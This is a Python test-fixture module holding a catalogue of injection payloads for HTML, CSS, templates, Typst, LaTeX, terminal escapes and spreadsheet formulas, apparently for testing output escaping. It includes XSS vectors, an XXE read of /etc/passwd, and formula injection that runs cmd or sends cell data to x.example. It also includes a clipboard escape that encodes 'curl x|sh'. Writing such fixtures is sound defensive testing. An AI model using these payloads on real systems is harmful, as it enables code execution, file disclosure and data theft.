"""Texts that would do something if they were not text, and the harmless text of the same shape."""

import os

THOROUGH = os.environ.get("SENSATIONAL_HOSTILE") == "all"
"""Whether every text is tried by itself, in every output, PDF included: ``tox -e hostile``."""

PAYLOADS = {
    # the page
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "image with handler": "<img src=x onerror=alert(1)>",
    "SVG with handler": "<svg onload=alert(1)><set/></svg>",
    "end of an attribute": "\" onmouseover=\"alert(1)\" x=\"",
    "end of an attribute, single": "' onfocus='alert(1)' autofocus='",
    "end of a style": "</style><style>*{background:url(//x.example)}",
    "end of a title": "</title><base href=//x.example/>",
    "end of a text field": "</textarea><form action=//x.example>",
    "style expression": "<p style=\"width:expression(alert(1))\">",
    "style import": "@import url(//x.example/a.css);",
    "style address": "background:url(javascript:alert(1))",
    "frame": "<iframe srcdoc='&lt;script&gt;'></iframe>",
    "refresh": "<meta http-equiv=refresh content=0;//x.example>",
    "object": "<object data=//x.example><embed src=x></object>",
    "address that is code": "javascript:alert(1)//",
    "address that is data": "data:text/html,<script>1</script>",
    "link": "<a href='javascript:alert(1)'>here</a>",
    "comment": "--><script>1</script><!--",
    "end of CDATA": "]]><b>x</b><![CDATA[",
    "processing instruction": "<?xml-stylesheet href='//x.example'?>",
    "document type": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "entities": "&lt;script&gt; &#60;b&#62; &#x3c;i&#x3e; &amp;lt;",
    "half a tag": "<img src=\"x",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "full width": "＜script＞alert(1)＜/script＞",
    # templates and typesetting
    "template expression": "{{ 7777*7777 }} {{ config }}",
    "template statement": "{% raw %}{% include '/etc/passwd' %}{# x #}",
    "format string": "{0.__class__} %s %(x)s ${x}",
    "Typst code": "#read(\"/etc/passwd\") #{1+1}",
    "Typst import": "#import \"@preview/x:1.0.0\": * #include \"a\"",
    "Typst markup": "= H *b* _e_ `r` $x^2$ <lab> @lab \\u{41} ~ --- //",
    "Typst raw": "```typ #eval(\"1\") ```",
    "Typst end of string": "\") #panic(\"x\") (\"",
    "LaTeX": "\\input{/etc/passwd} $\\frac{1}{0}$ \\write18{id}",
    "rich markup": "[bold red]x[/] [link=file:///etc/passwd]y[/link] :smile:",
    "Markdown": "![x](//x.example/a.png) [y](javascript:alert(1)) | a | b |",
    # the terminal
    "colour": "\x1b[31mred\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[1;1H\x1bc",
    "title of the window": "\x1b]0;title\x07",
    "hyperlink": "\x1b]8;;file:///etc/passwd\x1b\\here\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;Y3VybCB4fHNo\x07",
    "report back": "\x1b[6n\x1b[c\x1b]10;?\x07\x1bP$qm\x1b\\",
    "C1 controls": "\x9b31mred\x9d0;t\x9c\x90x\x9c\x85",
    "over the line": "good\rbad\x08\x08\x08evil\x0b\x0c",
    "right to left": "\u202egnp.exe\u202c \u202d\u202a\u202b",
    "isolates": "\u2066a\u2067b\u2068c\u2069 \u200e\u200f\u061c",
    "zero width": "ad\u200bm\u200ci\u200dn\u2060\ufeff",
    "tags": "a\U000e0001\U000e0041\U000e007f",
    "NUL": "before\x00after",
    "line separators": "one\u2028two\u2029three\x1c\x1d\x1e",
    "surrogates": "\ud800 \udfff \ud83d\ude00",
    "no characters": "\ufffe\uffff\ufdd0\U0001ffff",
    # the spreadsheet
    "formula": "=1+1",
    "formula that fetches": "=HYPERLINK(\"//x.example?\"&A1,\"x\")",
    "formula that calls": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "space": "  =1+1",
    "full-width formula": "＝1+1",
    "apostrophes": "''=1+1",
    "quote and comma": "\",=1+1,\"",
}  # fmt: skip

FEW = ("end of an attribute", "document type", "hyperlink", "formula that fetches")
CHOSEN = tuple(PAYLOADS) if THOROUGH else FEW


def harmless(text: str) -> str:
    """Letters where ``text`` has letters, and dots and spaces where it has signs and spaces."""
    return "".join(map(_harmless, text))


def _harmless(character: str) -> str:
    if character == "\n":
        return character
    if character.isspace() or character in "\x1c\x1d\x1e\x85":
        return " "
    if character in '"“”':
        return "”"
    if character in ".?!,;:":
        return character
    return "x" if character.isalnum() or character == "_" else "·"
